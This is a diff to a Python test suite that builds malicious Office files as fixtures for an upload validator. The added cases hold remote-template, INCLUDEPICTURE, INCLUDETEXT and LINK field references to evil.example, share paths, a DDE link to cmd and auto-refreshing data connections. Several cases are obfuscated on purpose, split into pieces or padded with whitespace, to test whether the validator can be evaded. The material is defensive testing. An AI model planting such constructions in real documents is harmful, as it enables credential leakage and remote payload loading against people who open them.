@@ -4,6 +4,7 @@ import struct
 from collections.abc import Iterator
 
 from application.ports import Unfit
+from tests.application.adapters.corpus import hostile_archives
 from tests.support.papers import OFFICE, body, office, relation, relations, types, zipped
 
 Case = tuple[str, bytes, Unfit]
@@ -55,6 +56,12 @@ def carrying() -> Iterator[tuple[str, bytes]]:
     yield "a DOCX with a program", office("docx", ("word/media/setup.exe", b"MZ\x90\0"))
     yield "a DOCX with an archive for a picture", office("docx", ("word/media/image1.png", zipped([("a", "b")])))
     yield "a DOCX with a page", office("docx", ("word/afchunk.html", "<script>"))
+    yield "a DOCX with a page as a mail", office("docx", ("word/afchunk.mht", "MIME-Version: 1.0"))
+    yield (
+        "a DOCX with a page under another name",
+        office("docx", ("word/page.dat", "words <html>"), rels(relation("aFChunk", "page.dat", "Internal"))),
+    )
+    yield "a DOCX that shows a page", office("docx", text='<w:altChunk xmlns:r="r" r:id="r1"/>')
     yield (
         "a program in Java that is a DOCX too",
         office("docx", ("META-INF/MANIFEST.MF", "Main-Class: A"), ("A.class", b"\xca\xfe\xba\xbe")),
@@ -71,6 +78,12 @@ def loading() -> Iterator[tuple[str, bytes]]:
         office("docx", ("word/_rels/settings.xml.RELS", relations(relation("attachedTemplate", "http://evil.example/a.dotm")))),
     )
     yield "a template from a share", office("docx", rels(relation("attachedTemplate", "file://///evil.example/a.dotm")))
+    for way in ("/\\", "\\/", "/&#9;/", "%5c/"):
+        yield f"a template from a share, named by {way}", office("docx", rels(relation("attachedTemplate", f"{way}evil.example/a.dotm")))
+    yield (
+        "a template from elsewhere in another mode",
+        office("docx", rels(relation("attachedTemplate", "http://evil.example/a.dotm", "external"))),
+    )
     yield "a template from a share, as Windows names it", office("docx", rels(relation("attachedTemplate", r"\\evil.example\a.dotm")))
     yield (
         "a template whose address is written otherwise",
@@ -100,6 +113,39 @@ def loading() -> Iterator[tuple[str, bytes]]:
         "a link to another program",
         office("xlsx", ("xl/externalLinks/externalLink1.xml", '<externalLink><ddeLink ddeService="cmd"/></externalLink>')),
     )
+
+
+def whole_field(*pieces: str) -> str:
+    return f'<w:fldChar w:fldCharType="begin"/>{field(*pieces)}<w:fldChar w:fldCharType="end"/>'
+
+
+def fields_that_load() -> Iterator[tuple[str, bytes]]:
+    picture = 'INCLUDEPICTURE "http://evil.example/a.png" \\d'
+    yield "a field with a picture from elsewhere", office("docx", text=whole_field(f" {picture} "))
+    yield "a field with a picture from elsewhere, within another", office("docx", text=whole_field("IF 1=1 ", whole_field(picture)))
+    yield "a field with a text from a share", office("docx", text=whole_field(r'includetext "\\\\evil.example\\s\\a.docx"'))
+    yield "a field with a text from elsewhere, in pieces", office("docx", text=whole_field(" IN", "CLUDE", "TEXT http://evil.example"))
+    yield "a field linked to a workbook", office("docx", text=whole_field(r' LINK Excel.Sheet.8 "\\\\evil.example\\s\\a.xls" "" \a'))
+    yield "a field linked to a workbook, behind another", office("docx", text=whole_field("PAGE") + whole_field("LI", "NK Excel.Sheet.8"))
+    yield "a field linked to a workbook, behind one in it", office("docx", text=whole_field(whole_field("SET a b"), " LINK Excel.Sheet.8"))
+    yield "a field linked to a workbook, behind blanks", office("docx", text=whole_field(" " * 2**19 + "LINK Excel.Sheet.8"))
+    yield "a field that brings in another file", office("docx", text=whole_field("IMPORT http://evil.example/a.png"))
+    yield "a field that asks a database", office("docx", text=whole_field("DATABASE \\d http://evil.example"))
+    yield "a simple field linked to a workbook", office("docx", text='<w:fldSimple w:instr=" LINK Excel.Sheet.8 a"/>')
+
+
+def refreshing() -> Iterator[tuple[str, bytes]]:
+    web = '<webPr url="http://evil.example"/>'
+    for told in ('refreshOnLoad="1"', 'refreshOnLoad=" true "', 'refreshOnLoad="&#49;"', 'interval="5"'):
+        yield (
+            f"a workbook that asks elsewhere by {told}",
+            office("xlsx", ("xl/connections.xml", f'<connections><connection id="1" {told}>{web}</connection></connections>')),
+        )
+    yield (
+        "a workbook that asks elsewhere under another name",
+        office("xlsx", ("xl/a.dat", '<x:connections xmlns:x="x"><x:connection refreshOnLoad="1"/></x:connections>')),
+    )
+    yield "a table that asks elsewhere", office("xlsx", ("xl/queryTables/a.xml", '<queryTable refreshOnLoad="1" connectionId="1"/>'))
 
 
 def misplaced() -> Iterator[tuple[str, bytes]]:
@@ -159,6 +205,10 @@ def not_as_it_lies() -> Iterator[Case]:
     start = relations(relation("officeDocument", "d/real.xml", "Internal"))
     elsewhere = [("[Content_Types].xml", types("docx")), ("_rels/.rels", start), ("word/document.xml", "<a/>"), ("d/real.xml", "<a/>")]
     yield "a main part that is not where it belongs", zipped(elsewhere), Unfit.DAMAGED
+    hidden = rels(relation("connections", "worksheets/a.xml", "Internal"), kind="xl/_rels/workbook.xml.rels")
+    yield "questions among the sheets", office("xlsx", hidden, ("xl/worksheets/a.xml", '<connection refreshOnLoad="1"/>')), Unfit.DAMAGED
+    hidden = rels(relation("queryTable", "a.xml", "Internal"), kind="xl/worksheets/_rels/sheet1.xml.rels")
+    yield "a table of questions among the sheets", office("xlsx", hidden), Unfit.DAMAGED
     yield "a text nested without end", office("docx", ("word/a.xml", "<a>" * 9_999 + "</a>" * 9_999)), Unfit.DAMAGED
     yield "relations that are none", office("docx", ("word/_rels/a.xml.rels", f"<a {OFFICE}")), Unfit.DAMAGED
     yield "an archive cut short", PLAIN[:-30], Unfit.DAMAGED
@@ -177,9 +227,12 @@ def cases() -> Iterator[Case]:
         (with_macros(), Unfit.MACROS),
         (carrying(), Unfit.ATTACHED_FILES),
         (loading(), Unfit.LOADS_FROM_ELSEWHERE),
+        (fields_that_load(), Unfit.LOADS_FROM_ELSEWHERE),
+        (refreshing(), Unfit.LOADS_FROM_ELSEWHERE),
         (misplaced(), Unfit.LOADS_FROM_ELSEWHERE),
         (too_large(), Unfit.UNPACKS_TOO_LARGE),
         (locked(), Unfit.ENCRYPTED),
     ):
         yield from ((what, content, reason) for what, content in found)
     yield from not_as_it_lies()
+    yield from hostile_archives.cases()
